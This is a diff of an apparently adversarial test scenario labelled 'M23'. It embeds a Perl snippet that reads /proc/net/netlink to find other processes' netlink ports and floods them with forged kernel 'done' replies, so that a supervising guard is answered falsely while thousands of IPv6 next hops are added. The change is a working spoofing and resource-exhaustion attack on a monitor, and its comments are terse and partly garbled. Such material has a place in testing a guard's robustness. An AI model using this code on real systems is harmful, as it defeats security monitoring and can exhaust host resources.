@@ -326,16 +326,22 @@ $held = {ENOUGH} << 20;
             "M23",
             "answer the guard in the kernel's place (netlink) while next hops are added, which only an answer counts",
             f"""
-for my $forger (0 .. 3) {{  # the guard weighs in a child of the supervisor, whose number is the port of its socket
+my $ip = open(my $batch, "|-", "ip -6 -force -batch -");
+for my $forger (1 .. 2) {{
     next if fork;
-    socket(my $netlink, 16, 3, 0) or exit;
-    my $done = pack("LSSLLL", 20, 3, 2, 0, 0, 0);
-    my @guards = map {{ pack("SSLL", 16, 0, 4 * $_ + $forger, 0) }} 0 .. 500;
-    my $end = time + 15;
-    while (time < $end) {{ send($netlink, $done, 0, $_) for @guards }}
+    close $batch;
+    socket(my $netlink, 16, 3, 0) && open(my $list, "<", "/proc/net/netlink") or exit;
+    my ($done, $end) = (pack("LSSLLL", 20, 3, 2, 0, 0, 0), time + 30);
+    while (time < $end) {{  # this file lists the guard's socket with its port, as it is a socket of this network
+        sysseek($list, 0, 0);
+        sysread($list, my $sockets, 65536);
+        for my $port (grep {{ $_ != $ip }} $sockets =~ /^\\S+ 0 +([1-9]\\d*) /mg) {{
+            for (1 .. 20) {{ send($netlink, $done, 0x40, pack("SSLL", 16, 0, $port, 0)) or last }}
+        }}
+        select(undef, undef, undef, 0.0001);
+    }}
     exit;
 }}
-open(my $batch, "|-", "ip -6 -force -batch -");
 print $batch "nexthop add id $_ dev eth0\n" for 1 .. {ENOUGH} << 11;
 close $batch;
 $held = ({ENOUGH} << 11) * 448;
